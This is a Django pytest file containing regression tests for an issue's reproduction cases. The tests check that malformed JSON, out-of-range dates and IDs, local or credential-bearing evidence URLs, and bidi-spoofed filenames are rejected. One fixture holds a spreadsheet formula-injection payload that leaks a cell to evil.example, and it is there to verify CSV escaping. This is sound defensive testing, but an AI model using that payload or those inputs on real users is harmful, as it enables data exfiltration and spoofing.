"""Issue 14's repro lines, each as a client test (DEBUG off: a server error is a 500
response, not an exception)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.test import Client

from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def reader(db):
    return factories.make_user("+1+1")


@pytest.fixture
def as_reader(reader):
    client = Client(raise_request_exception=False)
    client.force_login(reader)
    return client


@pytest.fixture
def as_editor(db):
    client = Client(raise_request_exception=False)
    client.force_login(factories.make_editor())
    return client


def _annotation_json(article, **extra):
    exact = article.paragraphs[0].split()[0]
    start = article.body.index(exact)
    return {"kind": "comment", "visibility": "public", "comment": "نص", "start": start, "end": start + len(exact),
            "exact": exact, **extra}  # fmt: skip


def test_json_annotation_with_a_lone_surrogate_is_a_400(as_reader, article):
    body = json.dumps(_annotation_json(article, comment="\ud800"))  # ASCII: "\\ud800"
    response = as_reader.post(
        f"/articles/{article.pk}/annotations/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["error"] == "Request body contains a lone surrogate escape."
    assert not article.annotations.exists()


def test_json_annotation_nested_100000_deep_is_a_400(as_reader, article):
    body = '{"kind": ' + "[" * 100_000 + "]" * 100_000 + "}"
    response = as_reader.post(
        f"/articles/{article.pk}/annotations/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert "متداخل" in response.json()["errors"][0]


def test_a_valid_json_annotation_still_works(as_reader, article):
    response = as_reader.post(
        f"/articles/{article.pk}/annotations/",
        json.dumps(_annotation_json(article, tags=["أ", "ب"])),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content.decode()


@pytest.mark.parametrize("url", ["/archive/99999999999999999999/", "/archive/2024/99999999999999999999/", "/archive/0/", "/archive/2024/13/"])  # fmt: skip
def test_an_archive_year_out_of_range_is_a_404(client, url, db):
    client.raise_request_exception = False
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("path", ["/editor/claims/", "/editor/claims/export.csv"])
@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_claims_queue_far_dates_are_field_errors_not_a_500(as_editor, path, day):
    for name in ("date_to", "date_from"):
        response = as_editor.get(path, {name: day})
        assert response.status_code == 200, (path, name)
    page = as_editor.get("/editor/claims/", {"date_to": "9999-12-31"}).content.decode()
    assert "اختر تاريخًا بين عامي 1800 و2999." in page


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


@pytest.fixture
def hostile_annotation(reader, article):
    return factories.annotate(
        article, reader, article.paragraphs[0].split()[0], kind="comment",
        comment='=HYPERLINK("http://evil.example/?"&A1,"x")',
    )  # fmt: skip


def test_my_annotations_csv_is_formula_safe(as_reader, hostile_annotation):
    response = as_reader.get("/annotations/mine/export.csv")
    text = response.content.decode()
    assert _formula_cells(text) == []
    assert "'=HYPERLINK(" in text and "'+1+1" in text


def test_export_annotations_csv_is_formula_safe(hostile_annotation, capsys):
    call_command("export_annotations", "--format", "csv")
    text = capsys.readouterr().out
    assert _formula_cells(text) == []
    assert "'=HYPERLINK(" in text and "'+1+1" in text


def test_a_20_digit_claim_id_is_a_404_not_an_overflow(as_editor):
    assert as_editor.get("/editor/claims/99999999999999999999/").status_code == 404
    assert as_editor.get("/annotations/99999999999999999999/").status_code == 404


@pytest.mark.parametrize(
    "url",
    [
        "/admin/articles/article/?published_at__year=99999999999999999999",
        "/admin/articles/article/?published_at__year=2024&published_at__month=13",
        "/admin/newsroom/claimreview/?claimed_at__year=-5",
        "/admin/annotations/annotation/?created__year=99999999999999999999",
    ],
)
def test_admin_date_hierarchy_out_of_range_is_the_invalid_lookup_page(db, url):
    client = Client(raise_request_exception=False)
    client.force_login(factories.make_user("boss", is_staff=True, is_superuser=True))
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].endswith("?e=1")
    assert client.get("/admin/articles/article/?published_at__year=2022").status_code == 200


def test_admin_add_with_a_bad_section_key_is_a_form_error(db):
    client = Client(raise_request_exception=False)
    client.force_login(factories.make_user("boss", is_staff=True, is_superuser=True))
    for bad in ("\x00", "99999999999999999999", "نص"):
        response = client.post(
            "/admin/articles/article/add/", {"title": "عنوان", "section": bad, "body": "نص"}
        )
        assert response.status_code == 200


def test_admin_group_with_a_huge_permission_id_is_a_400(db):
    client = Client(raise_request_exception=False)
    client.force_login(factories.make_user("boss", is_staff=True, is_superuser=True))
    response = client.post(
        "/admin/auth/group/add/", {"name": "g", "permissions": "99999999999999999999"}
    )
    assert response.status_code in (200, 400)


@pytest.mark.parametrize(
    "url",
    ["https://user:pass@example.org/", "http://127.0.0.1:8000/admin/", "http://10.1.2.3/",
     "https://example.org/\u202efdp.exe"],
)  # fmt: skip
def test_evidence_urls_refuse_userinfo_local_addresses_and_bidi(as_editor, reader, url):
    article = factories.make_article()
    claim = factories.annotate(article, reader, article.paragraphs[0].split()[0], kind="claim")
    review = claim.review
    response = as_editor.post(f"/editor/claims/{review.pk}/", {"title": "مصدر", "url": url})
    assert response.status_code == 400
    assert not review.evidence.exists()
    ok = as_editor.post(
        f"/editor/claims/{review.pk}/", {"title": "مصدر", "url": "https://example.org/a"}
    )
    assert ok.status_code == 302 and review.evidence.count() == 1
